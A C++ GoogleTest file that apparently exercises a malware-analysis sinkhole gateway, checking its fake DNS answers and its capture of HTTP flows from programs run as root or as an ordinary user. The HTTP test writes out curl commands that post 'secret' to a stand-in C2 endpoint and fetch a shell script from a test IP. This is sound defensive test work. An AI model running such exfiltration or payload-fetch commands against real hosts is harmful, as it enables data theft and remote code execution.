// The gateway as a supervisor uses it, with real clients in the cell's network: as root and as an ordinary
// user.
#include <gmock/gmock.h>

#include "gateway/testing.h"

namespace shikake::gateway {
namespace {

using testing::HasSubstr;
using testing::StartsWith;

class GatewayAs : public testing::TestWithParam<bool> {};
INSTANTIATE_TEST_SUITE_P(Users, GatewayAs, testing::Bool(),
                         [](const auto& parameter) { return parameter.param ? "root" : "ordinary"; });

TEST_P(GatewayAs, AnswersEveryNameEachWithItsOwnAddress) {
  SHIKAKE_NEED_PROGRAM("dig");
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    Output first =
        lab.run("dig +short a.example; dig +short A.EXAMPLE @8.8.8.8; dig +short +tcp a.example @1.1.1.1");
    EXPECT_THAT(first.text, StartsWith("198.1"));
    const std::string address = first.text.substr(0, first.text.find('\n'));
    EXPECT_EQ(first.text, address + "\n" + address + "\n" + address + "\n");
    EXPECT_NE(lab.run("dig +short b.example").text, address + "\n");
    EXPECT_EQ(lab.run("dig +short -x " + address).text, "a.example.\n");
    EXPECT_THAT(lab.run("dig +short a.example AAAA").text, StartsWith("2001:2:"));
    ASSERT_TRUE(lab.finish());
    ASSERT_GE(lab.seen.lookups.size(), 6U);
    EXPECT_EQ(lab.seen.lookups[0].name, "a.example");
    EXPECT_EQ(lab.seen.lookups[0].answers, std::vector<std::string>{address});
    EXPECT_EQ(lab.seen.lookups[1].over, "udp");
    EXPECT_EQ(lab.seen.lookups[2].over, "tcp");
  });
}

TEST_P(GatewayAs, AnswersHttpOnAnyPortAndKnowsTheHost) {
  in_private_network(GetParam(), [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    EXPECT_THAT(lab.run("curl -s http://c2.example:4711/gate.php?id=7 -d secret").text,
                HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -s -g 'http://[2001:db8::7]/'").text, HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -s http://203.0.113.9/run.sh").text, StartsWith("#!/bin/sh"));
    auto ended = lab.finish();
    ASSERT_TRUE(ended) << ended.error().message();
    const Flow* flow = nullptr;
    for (const auto& [id, each] : lab.seen.flows)
      if (each.remote.port == 4711) flow = &each;
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->protocol, "http");
    EXPECT_EQ(flow->host, "c2.example");
    EXPECT_EQ(flow->detail, "POST /gate.php?id=7");
    EXPECT_THAT(lab.seen.stream(*flow, true), HasSubstr("\r\n\r\nsecret"));
    EXPECT_THAT(lab.seen.stream(*flow, false), HasSubstr("It works"));
    EXPECT_EQ(flow->out.sha256, base::sha256(lab.seen.stream(*flow, true)).hex());
    EXPECT_EQ(flow->out.bytes, flow->out.kept_bytes);
    EXPECT_GT(ended->captured_packets, 20U);
    EXPECT_EQ(ended->lost_packets, 0U);
  });
}

}  // namespace
}  // namespace shikake::gateway
